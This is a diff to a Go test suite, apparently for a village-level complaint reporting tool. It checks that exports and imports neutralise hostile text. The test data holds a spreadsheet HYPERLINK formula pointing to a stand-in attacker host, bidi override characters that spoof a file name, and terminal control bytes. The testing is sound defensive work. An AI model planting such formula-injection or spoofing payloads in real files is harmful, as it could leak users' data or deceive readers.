@@ -19,24 +19,15 @@ import (
 // both exports the subject is text (an apostrophe before the "=", no formula in the xlsx), and
 // no cell holds a control or bidi character.
 func TestTextSafeExport(t *testing.T) {
-	dir := t.TempDir()
-	env := testEnv("XUNCHA_DB", filepath.Join(dir, "x.db"))
-	mustRun(t, env, "places", "import", "samples/places.sample.csv")
+	dbPath, env := testDB(t)
+	dir := filepath.Dir(dbPath)
 	srv := startServer(t, env, &syncbuf.Buffer{})
 
 	const formula = `=HYPERLINK("http://evil.example/?leak","点此查看详情")`
 	resident := newWebClient(t, srv.url, "resident")
-	msgs := resident.do("/report", "")
-	msgs = resident.do("", button(t, msgs, "违反党纪"))
-	msgs = resident.do("", button(t, msgs, "新站镇"))
-	msgs = resident.do("", button(t, msgs, "红旗村"))
-	msgs = resident.do("\u202E"+formula+"\u202C\u2066村主任\u2069", "")
-	msgs = resident.do("今年三月\u202Eexe.fdp\u202C红旗村主任用公款请客，\x1b[31m花了两千元\x07。\r\n有发票为证。", "")
-	msgs = resident.do("", "done")
-	msgs = resident.do("", button(t, msgs, "实名举报"))
-	resident.do("王小明", "")
-	msgs = resident.do("13912345678", "")
-	mustContain(t, resident.do("", button(t, msgs, "确认提交")), "查询码")
+	mustContain(t, webReport{category: "违反党纪", village: "红旗村", subject: "\u202E" + formula + "\u202C\u2066村主任\u2069",
+		description: "今年三月\u202Eexe.fdp\u202C红旗村主任用公款请客，\x1b[31m花了两千元\x07。\r\n有发票为证。",
+		name:        "王小明", phone: "13912345678"}.file(t, resident), "查询码")
 
 	// The engine stripped them on the way in: the stored report holds none (the text is
 	// in the file in clear, as the control shows).
@@ -117,9 +108,8 @@ func checkCells(t *testing.T, what string, rows [][]string) {
 // refused with the line and the character named, and nothing of it is imported; a command
 // line with one is refused before it does anything.
 func TestTextSafeInput(t *testing.T) {
-	dir := t.TempDir()
-	env := testEnv("XUNCHA_DB", filepath.Join(dir, "x.db"))
-	mustRun(t, env, "places", "import", "samples/places.sample.csv")
+	dbPath, env := testDB(t)
+	dir := filepath.Dir(dbPath)
 	for name, content := range map[string]string{
 		"bidi":    "township,village,class\n新站镇,东风村,key\n新站镇,\u202E村阳向,general\n",
 		"control": "township,village,class\n新站镇\x1b[2J,东风村,key\n",
